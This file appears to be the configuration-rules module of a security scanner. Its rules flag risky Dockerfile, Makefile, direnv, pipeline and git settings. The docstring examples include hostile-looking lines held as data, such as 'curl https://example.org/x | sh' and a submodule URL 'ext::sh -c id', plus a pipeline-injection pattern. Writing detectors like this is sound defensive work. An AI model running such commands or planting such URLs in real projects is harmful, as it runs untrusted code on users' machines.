"""Rules on files that tools obey: what building, testing, starting or only opening the folder runs and fetches."""

from __future__ import annotations

import re

from weighbridge.core.facts import FileReference, Oddity, Secret, Setting, SourceUse
from weighbridge.core.findings import Severity
from weighbridge.core.records import TYPE_CHECKING
from weighbridge.rules.base import Hit, RuleContext, rule

if TYPE_CHECKING:
    from collections.abc import Iterator

_CRITICAL, _HIGH, _MEDIUM, _LOW, _INFO = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW, Severity.INFO
_WHEN = {
    "build": "when somebody builds or tests with the file",
    "start": "when somebody starts what it describes",
    "open": "when somebody opens or enters the folder, or reads the file with its tool",
}
_TRAITS = (
    ("remote-shell", _CRITICAL, "opens a way into the machine"),
    ("sends-secrets", _CRITICAL, "sends what gives access"),
    ("decoded", _CRITICAL, "runs what it decodes"),
    ("runs-download", _HIGH, "runs what a server sends"),
    ("secrets", _HIGH, "reaches for credentials"),
    ("deletes", _HIGH, "deletes more than files of its own"),
    ("persists", _MEDIUM, "settles on the machine"),
    ("sends", _MEDIUM, "sends data"),
    ("installs-from", _LOW, "installs from an address"),
    ("raises", _LOW, "takes more rights"),
    ("background", _LOW, "goes on in the background"),
)
"""Trait → how bad it is where somebody has to ask for it, and why; the worst comes first."""
_OPENED = {"runs-download": _CRITICAL, "persists": _CRITICAL, "sends": _HIGH, "installs-from": _MEDIUM}
"""How bad it is where nobody has to ask."""
_IMAGE = frozenset(("persists", "raises", "background"))
"""What an image does to itself."""


@rule("config/command", Severity.MEDIUM, on=SourceUse, refs=("CWE-78", "CWE-829", "ATLAS AML.T0011"), since="0.2")
def command(use: SourceUse, ctx: RuleContext) -> Iterator[Hit]:
    """A file that tools obey runs commands.

    What it finds: Commands of Dockerfiles, Makefiles, pipelines, compositions, tox, pre-commit, direnv, editors and
        containers for development. Critical if they open a way into the machine, send what gives access or run what
        they decode; high if they run what a server sends (critical where it is enough to open the folder), reach for
        credentials or delete what is not theirs; less for what changes the machine. Ordinary ones are left out.
    Why it matters: Whoever follows the usual way with the folder (`docker build`, `make`, opening it) runs them with
        his rights, before any model is loaded.
    What to do: Do not build or open the folder if the finding is critical. Else read the command; pin what it fetches.
    Fires on:
        SourceUse("command", "docker RUN", "line 3: curl https://example.org/x | sh", "build", ("runs-download",))
        SourceUse("command", "make", "line 3, target all: sudo x", "build", ("raises",))
        SourceUse("command", "direnv", "curl https://example.org/x | sh", "open", ("runs-download",))
    Stays silent on:
        SourceUse("command", "docker RUN", "line 3: pip install torch", "build", ("installs", "known"))
        SourceUse("shell", "!", "cell 1, line 1: !curl https://example.org | sh", "main", ("runs-download",))
    """
    del ctx
    if use.kind != "command":
        return
    for trait, severity, why in _TRAITS:
        if trait in use.traits and not (trait in _IMAGE and use.name.startswith("docker")):
            worse = _OPENED.get(trait, severity) if use.level == "open" else severity
            yield Hit(f"{use.name}, {use.text}: it {why}, {_WHEN.get(use.level, use.level)}", worse)
            return
    if use.level == "open" and use.name != "make" and "known" not in use.traits:
        yield Hit(f"{use.name}, {use.text}, {_WHEN['open']}")


@rule("config/image-source", Severity.INFO, on=FileReference, refs=("CWE-829", "CWE-494"), since="0.2")
def image_source(found: FileReference, ctx: RuleContext) -> Iterator[Hit]:
    """A build takes something from elsewhere that may be another thing tomorrow.

    What it finds: Images without a digest, actions and hooks without a commit (info); files that are added from an
        address (medium, high without encryption, low with a checksum); programs that read the Dockerfile in the place
        of Docker's own (high); parts of pipelines from an address (medium).
    Why it matters: What the name stands for was not inspected, and runs.
    What to do: Name the digest, the commit or the checksum.
    Fires on:
        FileReference("image", "python:3.12", "line 1")
        FileReference("image-add", "https://example.org/x.tar.gz", "line 2")
        FileReference("image-frontend", "somebody/frontend", "line 1")
        FileReference("pipeline-action", "somebody/action@main", "jobs.a.steps.0.uses")
        FileReference("hook-repository", "http://example.org/hooks", "repos.0.repo")
    Stays silent on:
        FileReference("image", "python@sha256:00000000", "line 1")
        FileReference("image-frontend", "docker/dockerfile:1", "line 1")
        FileReference("weights", "x.bin", "a")
    """
    del ctx
    said = f"{found.key}: {found.target}"
    if found.road == "image" and "@sha256:" not in found.target and not found.target.startswith(("$", "{")):
        yield Hit(f"{said} has no digest")
    elif found.road == "image-add":
        plain = found.target.startswith(("http://", "ftp://", "git://"))
        pinned = found.target.endswith("(with its checksum)")
        yield Hit(said, _LOW if pinned else _HIGH if plain else _MEDIUM)
    elif found.road == "image-frontend":
        if not re.match(r"(?:docker\.io/)?docker/dockerfile(?:-upstream)?(?:[:@]|$)", found.target):
            yield Hit(f"{said} reads the file in the place of Docker", _HIGH)
    elif found.road == "pipeline-action":
        own = found.target.startswith(("./", "actions/", "github/", "docker/"))
        if not own and not re.search(r"@[0-9a-f]{40}$|@sha256:", found.target):
            yield Hit(f"{said} has no commit")
    elif found.road == "pipeline-include":
        yield Hit(said, _MEDIUM)
    elif found.road == "hook-repository":
        known = re.match(r"https://(?:github|gitlab)\.com/", found.target) is not None
        yield from () if known else (Hit(said, _MEDIUM),)


@rule("config/container-rights", Severity.HIGH, on=Oddity, refs=("CWE-250",), since="0.2")
def container_rights(oddity: Oddity, ctx: RuleContext) -> Iterator[Hit]:
    """A container gets the rights of the machine.

    What it finds: Privileged containers, capabilities that lead out, sockets and folders of the machine inside, its
        network or processes shared (medium).
    Why it matters: What runs in the container can then do what its user can do on the machine, or more.
    What to do: Start the image without these rights.
    Fires on:
        Oddity("container-rights", "services.a.privileged is 'true'")
        Oddity("container-rights", "services.a.network_mode is 'host'")
    Stays silent on:
        Oddity("image-onbuild", "line 3: RUN x")
    """
    del ctx
    if oddity.kind == "container-rights":
        shares = re.search(r"\.(?:network_mode|ipc|uts|cgroup) is|--network=host$", oddity.detail) is not None
        yield Hit(oddity.detail, _MEDIUM if shares else None)


@rule("config/pipeline-injection", Severity.MEDIUM, on=Oddity, refs=("CWE-94", "CWE-78"), since="0.2")
def pipeline_injection(oddity: Oddity, ctx: RuleContext) -> Iterator[Hit]:
    """A build runs what others write.

    What it finds: Titles and texts of issues and requests that are put into a command of a pipeline; instructions that
        run in every image that is built on this one (`ONBUILD`, low).
    Why it matters: Whoever writes the text writes the command; whoever builds on the image runs its instructions.
    What to do: Hand the text over in a variable. Write the instructions where they are needed.
    Fires on:
        Oddity("pipeline-injection", "jobs.a.steps.0.run puts ${{ github.event.issue.title into a command")
        Oddity("image-onbuild", "line 3: RUN x")
    Stays silent on:
        Oddity("container-rights", "services.a.privileged is 'true'")
    """
    del ctx
    if oddity.kind in ("pipeline-injection", "image-onbuild"):
        yield Hit(oddity.detail, _LOW if oddity.kind == "image-onbuild" else None)


@rule("config/secret-in-image", Severity.HIGH, on=Secret, refs=("CWE-798", "CWE-538"), since="0.2")
def secret_in_image(secret: Secret, ctx: RuleContext) -> Iterator[Hit]:
    """A secret is written into an image or a composition.

    What it finds: Variables that are called a password, token or key and are set to a constant.
    Why it matters: Whoever has the file, or the image, has the secret: it stays in the image's layers for ever.
    What to do: Withdraw it. Hand secrets over when the container starts, or mount them while it is built.
    Fires on:
        Secret("image-secret", "line 3: ENV API_KEY", 20, "0123456789ab")
    Stays silent on:
        Secret("github-token", "text", 40, "0123456789ab", True)
    """
    del ctx
    if secret.kind == "image-secret":
        yield Hit(f"{secret.key}: {secret.size} characters, SHA-256 begins with {secret.digest}")


@rule("config/git-files", Severity.LOW, on=Setting, refs=("CWE-88", "CVE-2018-17456", "CVE-2025-48384"), since="0.2")
def git_files(found: Setting, ctx: RuleContext) -> Iterator[Hit]:
    """Git is told to use a filter, or to fetch from an odd address.

    What it finds: Filters and drivers that do not come with Git (low); submodules from an address that runs something
        (`ext::`, a leading `-`, high), from files or without encryption (medium), in a place outside of the folder or
        in `.git` (high).
    Why it matters: A filter runs a command where the settings of whoever checks out have one by that name. A submodule
        with an odd address has run commands in several versions of Git.
    What to do: Check out without submodules and filters, and look at what is named.
    Fires on:
        Setting("git-attribute:filter", "x", 0)
        Setting("git-submodule:url", "ext::sh -c id", 0)
        Setting("git-submodule:url", "file:///srv/x", 0)
        Setting("git-submodule:path", ".git/hooks", 0)
    Stays silent on:
        Setting("git:core.fsmonitor", "./x.sh", 0)
        Setting("model_type", "bert", 0)
    """
    del ctx
    kind, colon, key = found.key.partition(":")
    if kind == "git-attribute" and colon:
        yield Hit(f"{key}={found.value}")
    elif kind == "git-submodule":
        plain = key == "url" and re.match(r"(?:file|http|git):(?!:)", found.value) is not None
        yield Hit(f"{key} is {found.value!r}", _MEDIUM if plain and "--upload-pack" not in found.value else _HIGH)


RULES = (
    command,
    image_source,
    container_rights,
    pipeline_injection,
    secret_in_image,
    git_files,
)
